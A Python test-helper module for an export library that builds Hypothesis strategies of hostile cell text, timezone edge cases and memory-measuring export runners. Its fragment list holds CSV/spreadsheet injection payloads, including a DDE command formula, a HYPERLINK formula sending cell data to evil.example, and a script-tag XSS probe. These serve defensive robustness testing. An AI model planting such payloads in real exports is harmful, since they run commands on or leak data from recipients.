"""Hypothesis strategies for data that breaks naive writers, and a format runner.

Format tests draw cells from here so that every format meets the same
quotes, delimiters, control characters, formula prefixes, markup and very
long strings, then write them into a real file with :func:`write_export`::

    from tests.unit.hostile import hostile_text, rows, write_export

With ``wild=True`` the strategies also draw what only a loosely typed store or
a careless plugin hands over, which every built-in format handles: lone
surrogates in text, and text in a column of any type.
"""

from __future__ import annotations

import re
import tracemalloc
from collections.abc import Iterable, Iterator, Sequence
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import msgspec
from hypothesis import strategies as st

from exportd import Batch, Column, ColumnType, ExportInfo, Format, Window

# Fragments chosen to hit quoting, line splitting, spreadsheet formulas,
# markup injection and bidirectional/multi-codepoint text.
HOSTILE_FRAGMENTS: tuple[str, ...] = (
    '"',
    '""',
    "'",
    ",",
    ";",
    "|",
    "\t",
    "\n",
    "\r",
    "\r\n",
    "\n\r",
    "\x00",
    "\x01",
    "\x08",
    "\x0b",
    "\x0c",
    "\x1b",
    "\x1f",
    "\x7f",
    "\x85",
    "\u2028",
    "\u2029",
    "\ufeff",
    "\u200b",
    "=",
    "+",
    "-",
    "@",
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "<script>alert(1)</script>",
    "</td></tr></table>",
    "<b>bold</b>",
    "&amp;",
    "&lt;",
    "]]>",
    "<!--",
    "{{ x }}",
    '{"a": 1}',
    "\\",
    "\\n",
    "😀",
    "👩‍👩‍👧‍👦",
    "🇫🇮",
    "e\u0301",
    "שלום",
    "مرحبا",
    "\u202eevil\u202c",
    "\u200f",
    "日本語",
    "NULL",
    "null",
    "None",
    "true",
    "",
    " ",
)

# A str can hold surrogate code points, which UTF-8 cannot encode: the halves
# of a pair too, as Python keeps them apart.
LONE_SURROGATES: tuple[str, ...] = ("\ud800", "\udfff", "a\udc00b", "\ud83d\ude00")
_SURROGATES = re.compile("[\ud800-\udfff]")


def encodable(text: str) -> str:
    """``text`` as the built-in formats write it: each lone surrogate as U+FFFD."""
    return _SURROGATES.sub("\ufffd", text)


def hostile_text(*, max_repeat: int = 3000, wild: bool = False) -> st.SearchStrategy[str]:
    """Text built from hostile fragments, arbitrary unicode, and long repeats.

    Every draw is text that UTF-8 can encode, unless ``wild`` adds lone surrogates.
    """
    fragments = HOSTILE_FRAGMENTS + (LONE_SURROGATES if wild else ())
    fragment = st.one_of(
        st.sampled_from(fragments),
        st.text(st.characters(codec="utf-8"), max_size=20),
    )
    mixed = st.lists(fragment, max_size=12).map("".join)
    long = st.builds(lambda text, times: text * times, mixed, st.integers(1, max_repeat))
    return st.one_of(mixed, long)


def utc_datetimes() -> st.SearchStrategy[datetime]:
    """Aware UTC datetimes, as sources hand them over, spanning DST changes."""
    return st.datetimes(min_value=datetime(1971, 1, 1), max_value=datetime(2099, 12, 31)).map(
        lambda value: value.replace(tzinfo=UTC)
    )


_CELLS: dict[ColumnType, st.SearchStrategy[Any]] = {
    "text": hostile_text(),
    "integer": st.integers(min_value=-(2**63), max_value=2**63 - 1),
    "float": st.floats(allow_nan=False, allow_infinity=False),
    "boolean": st.booleans(),
    "datetime": utc_datetimes(),
    "date": st.dates(min_value=date(1971, 1, 1), max_value=date(2099, 12, 31)),
}


def cells(column_type: ColumnType, *, wild: bool = False) -> st.SearchStrategy[Any]:
    """Values of ``column_type`` as a source yields them, ``None`` included
    (``wild``: see the module's docstring)."""
    if not wild:
        return st.none() | _CELLS[column_type]
    if column_type == "text":
        return st.none() | hostile_text(wild=True)
    return st.none() | _CELLS[column_type] | hostile_text(max_repeat=3, wild=True)


def rows(
    columns: Sequence[Column], *, max_size: int = 20, wild: bool = False
) -> st.SearchStrategy[list[tuple[Any, ...]]]:
    """A batch of row tuples that fit ``columns`` (``wild``: see the module's docstring)."""
    row = st.tuples(*(cells(column.type, wild=wild) for column in columns))
    return st.lists(row, max_size=max_size)


def columns(
    *, min_size: int = 1, max_size: int = 6, wild: bool = False
) -> st.SearchStrategy[list[Column]]:
    """Columns with hostile names, distinct as written, and any type (``wild``: names
    with lone surrogates too)."""
    column = st.builds(
        Column,
        name=hostile_text(max_repeat=3, wild=wild),
        type=st.sampled_from(list(_CELLS)),
    )
    return st.lists(
        column, min_size=min_size, max_size=max_size, unique_by=lambda c: encodable(c.name)
    )


# (zone, an aware UTC moment, that moment in RFC 3339 with the zone's offset, as
# msgspec renders it): both sides of DST changes, and the UTC "Z" form.
ZONE_CASES: tuple[tuple[str, datetime, str], ...] = (
    # Helsinki springs forward at 03:00 local (01:00 UTC) on 31 March 2024.
    ("Europe/Helsinki", datetime(2024, 3, 31, 0, 59, 59, tzinfo=UTC), "2024-03-31T02:59:59+02:00"),
    ("Europe/Helsinki", datetime(2024, 3, 31, 1, 0, 0, tzinfo=UTC), "2024-03-31T04:00:00+03:00"),
    # Los Angeles springs forward at 02:00 local (10:00 UTC) on 10 March 2024...
    ("America/Los_Angeles", datetime(2024, 3, 10, 9, 59, tzinfo=UTC), "2024-03-10T01:59:00-08:00"),
    ("America/Los_Angeles", datetime(2024, 3, 10, 10, 0, tzinfo=UTC), "2024-03-10T03:00:00-07:00"),
    # ...and falls back at 02:00 local (09:00 UTC) on 3 November: 01:30 happens twice.
    ("America/Los_Angeles", datetime(2024, 11, 3, 8, 30, tzinfo=UTC), "2024-11-03T01:30:00-07:00"),
    ("America/Los_Angeles", datetime(2024, 11, 3, 9, 30, tzinfo=UTC), "2024-11-03T01:30:00-08:00"),
    ("UTC", datetime(2024, 11, 3, 9, 30, 0, 1000, tzinfo=UTC), "2024-11-03T09:30:00.001000Z"),
)


# One column of every type, with the roles of a transcript.
MIXED = [
    Column("id", "integer"),
    Column("sent_at", "datetime", "time"),
    Column("author", "text", "author"),
    Column("real", "boolean"),
    Column("day", "date"),
    Column("score", "float"),
]


SYNTHETIC_COLUMNS = (
    Column("id", "integer"),
    Column("sent_at", "datetime", "time"),
    Column("author", "text", "author"),
    Column("body", "text", "text"),
    Column("real", "boolean"),
)


def synthetic_batches(count: int, size: int = 1000) -> Iterator[list[tuple[Any, ...]]]:
    """``count`` batches of rows fitting :data:`SYNTHETIC_COLUMNS`, made one at a time."""
    start = datetime(2024, 3, 1, tzinfo=UTC)
    for batch in range(count):
        yield [
            (n, start.replace(microsecond=n % 1000), f"user {n % 97}", f"message {n} =1+1", True)
            for n in range(batch * size, (batch + 1) * size)
        ]


def export_info(columns: Sequence[Column], zone: str = "UTC") -> ExportInfo:
    """What a format is told about an export of room r1's March 2024 in ``zone``."""
    return ExportInfo(
        source="rooms",
        params={"room_id": "r1"},
        window=Window(
            start=datetime(2024, 3, 1, tzinfo=UTC),
            end=datetime(2024, 4, 1, tzinfo=UTC),
            timezone=ZoneInfo(zone),
        ),
        columns=columns,
        generated_at=datetime(2024, 4, 1, 8, 30, tzinfo=UTC),
    )


def write_export(
    path: Path,
    format_: Format[Any],
    columns: Sequence[Column],
    batches: Iterable[Batch],
    *,
    options: msgspec.Struct | None = None,
    zone: str = "UTC",
) -> Path:
    """Write ``batches`` into ``path`` through ``format_``, as the pipeline does.

    Checks the one promise every writer makes about the file: it stays open.
    """
    info = export_info(columns, zone)
    with path.open("wb") as file:
        writer = format_.open(file, columns, options or format_.Options(), info)
        for batch in batches:
            writer.write(batch)
        writer.close()
        assert not file.closed, f"{format_.name} closed the file it was given"
    return path


def peak_memory_of_export(
    path: Path, format_: Format[Any], columns: Sequence[Column], batches: Iterable[Batch]
) -> int:
    """The peak of Python allocations (bytes) while ``batches`` are written to ``path``.

    Pass ``batches`` as a generator so that only the batch being written exists.
    """
    tracemalloc.start()
    try:
        write_export(path, format_, columns, batches)
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
